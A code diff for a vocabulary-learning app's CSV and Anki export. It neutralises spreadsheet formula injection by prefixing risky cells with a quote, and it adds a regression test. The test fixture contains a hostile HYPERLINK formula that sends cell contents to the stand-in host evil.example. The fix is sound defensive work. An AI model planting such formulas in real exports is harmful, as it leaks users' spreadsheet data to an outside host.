@@ -65,13 +65,13 @@ pub fn to_csv(words: &[SavedWord]) -> String {
     out.push_str("\r\n");
     for word in words {
         let fields = [
-            word.word.clone(),
-            word.pinyin.clone(),
-            word.glosses.join(GLOSS_SEPARATOR),
+            inert_cell(&word.word),
+            inert_cell(&word.pinyin),
+            inert_cell(&word.glosses.join(GLOSS_SEPARATOR)),
             word.hsk.map(|level| level.to_string()).unwrap_or_default(),
-            word.sentence.clone(),
-            word.translation.clone(),
-            word.slug.clone(),
+            inert_cell(&word.sentence),
+            inert_cell(&word.translation),
+            inert_cell(&word.slug),
             time_text(word.saved_at),
         ];
         let quoted: Vec<String> = fields.iter().map(|field| quote(field)).collect();
@@ -79,6 +79,28 @@ pub fn to_csv(words: &[SavedWord]) -> String {
         out.push_str("\r\n");
     }
     out
+}
+
+/// `text` as a spreadsheet cell that cannot be a formula: spreadsheets evaluate a
+/// cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return (a saved
+/// sentence `=HYPERLINK(…)` would run), so such text gets a leading `'`, which
+/// spreadsheets read as "this is text" and do not show (OWASP's advice for CSV).
+/// Text already starting with `'` gets one too, so [`from_cell`] can always drop
+/// exactly one and the list reads back as it was.
+fn inert_cell(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
+/// A cell written by [`inert_cell`] back to its text.
+fn from_cell(cell: String) -> String {
+    match cell.strip_prefix('\'') {
+        Some(text) => text.to_string(),
+        None => cell,
+    }
 }
 
 /// A field, quoted when it holds a comma, quote or line break.
@@ -96,7 +118,7 @@ fn quote(field: &str) -> String {
 pub fn to_anki_tsv(words: &[SavedWord]) -> String {
     let mut out = String::from("#separator:tab\n#html:false\n#columns:Front\tBack\n");
     for word in words {
-        let front = format!("{} [{}]", word.word, word.pinyin);
+        let front = inert_cell(&format!("{} [{}]", word.word, word.pinyin));
         let back = [
             word.glosses.join(GLOSS_SEPARATOR),
             word.sentence.clone(),
@@ -106,6 +128,7 @@ pub fn to_anki_tsv(words: &[SavedWord]) -> String {
         .filter(|part| !part.is_empty())
         .collect::<Vec<_>>()
         .join(" — ");
+        let back = inert_cell(&back);
         out.push_str(&flat(&front));
         out.push('\t');
         out.push_str(&flat(&back));
@@ -164,6 +187,8 @@ pub fn from_csv(text: &str) -> Result<Vec<SavedWord>, ImportError> {
         let [word, pinyin, glosses, hsk, sentence, translation, slug, saved_at] =
             <[String; 8]>::try_from(fields.clone())
                 .map_err(|fields| error(format!("expected 8 fields, found {}", fields.len())))?;
+        let [word, pinyin, glosses, sentence, translation, slug] =
+            [word, pinyin, glosses, sentence, translation, slug].map(from_cell);
         if word.trim().is_empty() {
             return Err(error("the word is empty".into()));
         }
@@ -294,6 +319,42 @@ mod tests {
         let error = from_csv(&format!("{}\"open", COLUMNS.join(",") + "\n")).unwrap_err();
         assert!(error.message.contains("never closed"), "{error}");
         assert!(from_csv("").unwrap_err().message.contains("empty"));
+    }
+
+    /// Guards issue 16 finding 6: a saved sentence starting with `=` (or `+ - @`,
+    /// a tab, a carriage return) was written as is, and spreadsheets ran it.
+    #[test]
+    fn exports_cannot_be_formulas_and_read_back_unchanged() {
+        let hostile = SavedWord {
+            sentence: "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"x\")".into(),
+            translation: "+1+1".into(),
+            pinyin: "-2".into(),
+            glosses: vec!["@SUM(A1)".into()],
+            slug: "\tx".into(),
+            ..word("=1+1")
+        };
+        let quoted = SavedWord {
+            word: "'=already quoted".into(),
+            sentence: "\rcarriage".into(),
+            ..word("递归")
+        };
+        let words = vec![hostile, quoted];
+        let csv = to_csv(&words);
+        for record in records(&csv).unwrap().into_iter().skip(1) {
+            for (column, field) in record.1.iter().enumerate() {
+                assert!(
+                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "column {column} starts a formula: {field:?}"
+                );
+            }
+        }
+        assert_eq!(from_csv(&csv).unwrap(), words);
+        let anki = to_anki_tsv(&words);
+        for note in anki.lines().filter(|line| !line.starts_with('#')) {
+            for field in note.split('\t') {
+                assert!(!field.starts_with(['=', '+', '-', '@']), "{field:?}");
+            }
+        }
     }
 
     #[test]
